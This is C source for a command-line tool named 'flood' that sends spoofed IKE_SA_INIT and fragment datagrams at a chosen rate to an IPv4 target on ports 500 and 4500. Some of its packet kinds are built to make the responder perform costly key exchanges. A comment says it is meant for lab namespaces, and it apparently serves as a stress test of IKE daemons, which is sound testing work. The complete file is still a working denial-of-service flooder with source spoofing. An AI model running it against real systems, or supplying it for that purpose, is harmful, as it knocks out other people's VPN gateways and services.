/* SPDX-License-Identifier: Apache-2.0 */
/*
 * flood KIND RATE SECONDS TARGET - sends RATE spoofed IKE datagrams a second to an IPv4 address,
 * from sources in 198.18.0.0/15 (RFC 2544), in turns to ports 500 and 4500. Prints how many left.
 *
 *   good      IKE_SA_INIT with a fresh Curve25519 value: costs the responder a key exchange
 *   bad       the same with a value of zero
 *   nothing   the same without a proposal that anybody has
 *   junk      an IKE_SA_INIT header and random octets
 *   fragment  SKF of an IKE SA that does not exist
 *   mixed     all of them in turns
 *
 * It is for the namespaces of the lab: it needs a raw socket.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH    64
#define SPOOFED  0xc6120000u /* 198.18.0.0/15 */
#define HEADERS  (sizeof(struct iphdr) + sizeof(struct udphdr))
#define LARGEST  512
#define N_KINDS  5
#define PER_SEC  ((uint64_t)1000000000)
#define SHORTEST 50000 /* ns; less is not worth a sleep */

enum kind { GOOD, BAD, NOTHING, JUNK, FRAGMENT, MIXED };
static const char *const names[] = {"good", "bad", "nothing", "junk", "fragment", "mixed"};

static uint64_t dice = 88172645463325252u;

static uint64_t roll(void)
{
    dice ^= dice << 13;
    dice ^= dice >> 7;
    dice ^= dice << 17;
    return dice;
}

static size_t fill(uint8_t *octets, size_t len)
{
    for (size_t i = 0; i < len; i++)
        octets[i] = (uint8_t)(roll() >> 24);
    return len;
}

static size_t put(uint8_t *at, const void *octets, size_t len)
{
    memcpy(at, octets, len);
    return len;
}

/* init - IKE_SA_INIT: header, SA, KE, Nonce (RFC 7296 section 1.2). */
static size_t init(uint8_t *out, enum kind kind)
{
    uint8_t sa[] = {34,   0,  0, 40, 0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20,
                    0x80, 14, 1, 0,  3, 0, 0, 8,  2, 0, 0, 5, 0, 0, 0, 8,  4, 0, 0, 31};
    static const uint8_t ke[] = {40, 0, 0, 40, 0, 31, 0, 0}, nonce[] = {0, 0, 0, 36}, zero[32];
    size_t n = 28;
    if (kind == NOTHING)
        sa[19] = 99; /* ENCR 99 */
    (void)fill(out, 8);
    memset(out + 8, 0, 8);
    memcpy(out + 16, (const uint8_t[]){33, 0x20, 34, 8, 0, 0, 0, 0}, 8);
    n += put(out + n, sa, sizeof(sa));
    n += put(out + n, ke, sizeof(ke));
    if (kind == BAD)
        n += put(out + n, zero, sizeof(zero));
    else
        n += fill(out + n, 32);
    n += put(out + n, nonce, sizeof(nonce));
    (void)fill(out + n, 32);
    n += 32;
    if (kind == JUNK)
        (void)fill(out + 28, n - 28);
    uint32_t length = htonl((uint32_t)n);
    memcpy(out + 24, &length, 4);
    return n;
}

static size_t fragment(uint8_t *out)
{
    static const uint8_t middle[] = {53, 0x20, 37, 8, 0, 0,   0, 1, 0, 0,
                                     0,  128,  0,  0, 0, 100, 0, 1, 0, 9};
    (void)fill(out, 128);
    memcpy(out + 16, middle, sizeof(middle));
    return 128;
}

static size_t datagram(uint8_t *out, enum kind kind, uint32_t target, unsigned number)
{
    bool nat = number % 2 != 0;
    size_t marker = nat ? 4 : 0;
    uint8_t *payload = out + HEADERS + marker;
    memset(out, 0, HEADERS + marker);
    if (kind == MIXED)
        kind = (enum kind)(number / 2 % N_KINDS);
    size_t len = marker + (kind == FRAGMENT ? fragment(payload) : init(payload, kind));
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .ttl = 60,
                       .protocol = IPPROTO_UDP,
                       .tot_len = htons((uint16_t)(HEADERS + len)),
                       .saddr = htonl(SPOOFED | (uint32_t)(roll() & 0x1ffff)),
                       .daddr = target};
    struct udphdr udp = {.source = htons((uint16_t)(1024 + roll() % 60000)),
                         .dest = htons(nat ? 4500 : 500),
                         .len = htons((uint16_t)(sizeof(udp) + len))};
    memcpy(out, &ip, sizeof(ip));
    memcpy(out + sizeof(ip), &udp, sizeof(udp));
    return HEADERS + len;
}

static uint64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * PER_SEC + (uint64_t)t.tv_nsec;
}

static unsigned batch_send(int fd, enum kind kind, const struct sockaddr_in *to, unsigned number)
{
    static uint8_t octets[BATCH][LARGEST];
    struct iovec iov[BATCH];
    struct mmsghdr messages[BATCH];
    memset(messages, 0, sizeof(messages));
    for (unsigned i = 0; i < BATCH; i++) {
        iov[i].iov_base = octets[i];
        iov[i].iov_len = datagram(octets[i], kind, to->sin_addr.s_addr, number + i);
        messages[i].msg_hdr.msg_name = (void *)(uintptr_t)to;
        messages[i].msg_hdr.msg_namelen = sizeof(*to);
        messages[i].msg_hdr.msg_iov = &iov[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    int sent = sendmmsg(fd, messages, BATCH, 0);
    return sent < 0 ? 0 : (unsigned)sent;
}

static void pause_until(uint64_t at)
{
    uint64_t now = now_ns();
    if (at < now + SHORTEST)
        return;
    struct timespec t = {0, (long)(at - now < PER_SEC ? at - now : PER_SEC - 1)};
    nanosleep(&t, NULL);
}

int main(int argc, char **argv)
{
    enum kind kind = GOOD;
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (argc != 5 || inet_pton(AF_INET, argv[4], &to.sin_addr) != 1)
        return 2;
    while (kind < MIXED && strcmp(names[kind], argv[1]) != 0)
        kind++;
    uint64_t rate = strtoull(argv[2], NULL, 10), seconds = strtoull(argv[3], NULL, 10);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0 || rate == 0) {
        perror("flood");
        return 1;
    }
    uint64_t begin = now_ns(), sent = 0;
    for (unsigned number = 0; now_ns() - begin < seconds * PER_SEC; number += BATCH) {
        sent += batch_send(fd, kind, &to, number);
        pause_until(begin + number * PER_SEC / rate);
    }
    printf("%llu\n", (unsigned long long)sent);
    close(fd);
    return 0;
}
